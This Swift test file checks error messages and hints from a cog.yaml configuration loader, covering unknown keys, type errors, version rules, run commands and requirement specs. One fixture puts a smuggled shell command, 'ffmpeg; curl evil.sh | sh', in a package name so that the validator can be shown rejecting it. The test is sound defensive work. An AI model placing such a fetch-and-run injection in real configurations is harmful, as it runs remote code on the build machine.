import TestSupport
import Testing

@testable import CogEngine

@Suite struct ConfigErrorTests {
    @Test func anErrorNamesTheLineQuotesItAndHints() throws {
        let error = try #require(try loadError("build:\n  python_version: 3.7\npredict: \"predict.py:Predictor\"\n"))
        #expect(
            error.description == """
                cog.yaml:2:19: Python 3.7 is not supported: cog supports Python 3.8 to 3.13
                    2 |   python_version: 3.7
                      |                   ^
                  hint: set one of 3.8, 3.9, 3.10, 3.11, 3.12, 3.13, e.g. python_version: "3.12"
                """)
    }

    @Test func everyErrorInTheFileIsReportedAtOnce() throws {
        let yaml = """
            build:
              pyhton_version: "3.11"
              gpu: yes
              cuda: "10.2"
              system_packages:
                - "ffmpeg; curl evil.sh | sh"
            predict: "predict.py"
            environment:
              - PATH=/opt/bin
            """
        let error = try #require(try loadError(yaml))
        #expect(
            error.diagnostics.map(\.message) == [
                "unknown key \"pyhton_version\" in build",
                "build.gpu must be true or false, not the string \"yes\"",
                "CUDA 10.2 is not supported: the oldest CUDA cog builds on is 11",
                "system package \"ffmpeg; curl evil.sh | sh\" is not an apt package name: it contains a space",
                "predict \"predict.py\" is not a reference to a Python class or function",
                "environment variable \"PATH\" is reserved for the cog runtime and cannot be set in cog.yaml",
            ])
        #expect(error.diagnostics.map { $0.mark?.line } == [2, 3, 4, 6, 7, 9])
        #expect(error.diagnostics[0].hint == "did you mean \"python_version\"?")
        #expect(error.description.hasSuffix("6 errors in cog.yaml"))
    }

    @Test(
        arguments: [
            (
                "build:\n  python_version: \"3.11\"\npredit: \"predict.py:P\"\n",
                "unknown key \"predit\" in the top level", "did you mean \"predict\"?"
            ),
            (
                "python_version: \"3.11\"\n", "\"python_version\" does not belong in the top level",
                "python_version belongs in the build section: move it under build:"
            ),
            (
                "build:\n  predict: \"predict.py:P\"\n", "\"predict\" does not belong in build",
                "predict belongs at the top level of cog.yaml, not in build"
            ),
            (
                "build:\n  gpu: true\n  gpu: false\n", "\"gpu\" is set twice in build; the first is on line 2",
                "keep one of them"
            ),
            (
                "build: [gpu]\n", "build must be a mapping of keys, not a list",
                "put its keys on the lines below it, indented, e.g. \"gpu: …\""
            ),
            (
                "build:\n  system_packages: ffmpeg\n",
                "build.system_packages must be a list, not the string \"ffmpeg\"",
                "write each item on its own line starting with \"- \""
            ),
            ("build:\n  python_version: [3.11]\n", "build.python_version must be a string, not a list", nil),
        ] as [(String, String, String?)])
    func keyAndTypeErrors(_ yaml: String, _ message: String, _ hint: String?) throws {
        let diagnostic = try #require(try loadError(yaml)?.diagnostics.first)
        #expect(diagnostic.message == message)
        #expect(diagnostic.hint == hint)
    }

    @Test(arguments: [
        (
            "run: \"run.py:Runner\"\npredict: \"predict.py:Predictor\"\n",
            "only one of run, predict (or the older model) can name the predictor"
        ),
        (
            "build:\n  python_packages: [numpy]\n  python_requirements: requirements.txt\n",
            "python_packages and python_requirements cannot both be set"
        ),
        ("build:\n  python_requirements: reqs.txt\n", "requirements file \"reqs.txt\" does not exist"),
        (
            "build:\n  run:\n    - \"echo one\\necho two\"\n",
            "this run command spans several lines; each command must be one line"
        ),
        (
            "build:\n  run:\n    - command: ls\n      mounts:\n        - {type: cache, id: x, target: /x}\n",
            "mount type \"cache\" is not supported; cog.yaml mounts are secrets only"
        ),
        (
            "build:\n  run:\n    - command: ls\n      mounts:\n        - {type: secret, id: x}\n",
            "this mount lacks target"
        ),
        ("build:\n  run:\n    - mounts: []\n", "this build.run item has no command"),
        ("build:\n  run:\n    - command:\n", "this build.run item's command is empty"),
        (
            "build:\n  run:\n    - --mount=type=bind,target=/x ls\n",
            "--mount=type=bind is not supported in run commands"
        ),
        (
            "build:\n  run:\n    - --network=none ls\n",
            "run command starts with the RUN flag --network=none, which cog does not support"
        ),
        ("concurrency: 10\n", "concurrency must be a mapping with max, not the number 10"),
        ("concurrency:\n  max: 0\n", "concurrency.max must be at least 1, not 0"),
        (
            "build:\n  python_version: \"3.10\"\nconcurrency:\n  max: 4\n",
            "concurrency.max 4 needs Python 3.11 or newer, but python_version is 3.10"
        ),
        ("environment:\n  - A=1\n  - A=2\n", "environment variable \"A\" is already set on line 2"),
        ("environment: A=1\n", "environment must be a list, not the string \"A=1\""),
        ("model: r8.im/a/b\nimage: r8.im/a/b\n", "model and image cannot both be set"),
        (
            "weights:\n  - {name: w, target: /src/w, source: {uri: hf://a/b}}\n",
            "weights need model: to name the repository they are pushed to"
        ),
        (
            "build:\n  python_version: \"3.9\"\n  sdk_version: \"0.23.0\"\n",
            "cog 0.23.0 needs Python 3.10 or newer, but this image has Python 3.9"
        ),
        (
            "../cog.yaml\n",
            "cog.yaml must be a mapping of keys such as build: and predict:, but it holds the string \"../cog.yaml\""
        ),
    ])
    func ruleErrors(_ yaml: String, _ message: String) throws {
        #expect(try errorMessages(yaml).first == message)
    }

    @Test func yamlSyntaxErrorsAreLocatedWithAHint() throws {
        let error = try #require(try loadError("build:\n  python_version: \"3.11\"\n\tgpu: true\n"))
        let diagnostic = try #require(error.diagnostics.first)
        #expect(diagnostic.message.hasPrefix("invalid YAML: found character that cannot start any token"))
        #expect(diagnostic.mark == SourceMark(line: 3, column: 1))
        #expect(diagnostic.hint == "indent with spaces: YAML does not allow tabs")
        let docstring = try #require(
            try loadError("\"\"\"\nA docstring\n\"\"\"\nbuild:\n  gpu: false\n")?.diagnostics.first)
        #expect(docstring.message == "invalid YAML: did not find expected <document start>")
        #expect(docstring.hint?.contains("docstring") == true)
    }

    @Test func requirementsErrorsPointIntoTheRequirementsFile() throws {
        let yaml = "build:\n  gpu: true\n  python_requirements: requirements.txt\npredict: \"predict.py:P\"\n"
        let error = try #require(
            try loadError(yaml, files: ["requirements.txt": "numpy==1.26.4\n# torch below\ntorch\n"]))
        #expect(
            error.description == """
                requirements.txt:3:1: torch version must be specified when using CUDA
                    3 | torch
                      | ^
                  hint: pin torch, e.g. torch==2.7.1, so cog can choose the CUDA version and the wheel index
                """)
    }

    @Test(arguments: [
        (
            "git+https://github.com/huggingface/transformers@2d16",
            "the pinned commit \"2d16\" in \"git+https://github.com/huggingface/transformers@2d16\" is too short: a commit needs at least six hex characters"
        ),
        (
            "git+https://github.com/huggingface/transformers",
            "\"git+https://github.com/huggingface/transformers\" is installed with git, but system_packages does not list git"
        ),
        (
            "my_package @ file://my_package-0.1-py3-none-any.whl",
            "\"my_package @ file://my_package-0.1-py3-none-any.whl\" names a file on this machine in a form cog cannot copy into the image"
        ),
        ("./dist/pkg-1.0.tar.gz", "\"./dist/pkg-1.0.tar.gz\" does not exist in the project"),
        ("-r other.txt", "\"-r other.txt\" reads another file with -r, which is not copied into the image"),
    ])
    func requirementRules(_ package: String, _ message: String) throws {
        let yaml = "build:\n  python_packages:\n    - \"\(package)\"\npredict: \"predict.py:P\"\n"
        #expect(try errorMessages(yaml).first == message)
    }

    @Test func gitPackagesLoadWithGitInstalled() throws {
        let yaml =
            "build:\n  system_packages: [git]\n  python_packages:\n    - git+https://github.com/huggingface/transformers@2d1602a\npredict: \"predict.py:P\"\n"
        #expect(try load(yaml).config.requirements == ["git+https://github.com/huggingface/transformers@2d1602a"])
    }

    @Test func aMissingConfigFileSaysHowToMakeOne() throws {
        let project = try makeProject(nil)
        #expect(
            throws: ConfigError.file(
                "cog.yaml", "cog.yaml not found in \(project.path)",
                hint: "run cog init to create one, or pass -f with the path of your config file")
        ) {
            try ConfigLoader.load(projectDirectory: project.path)
        }
    }
}
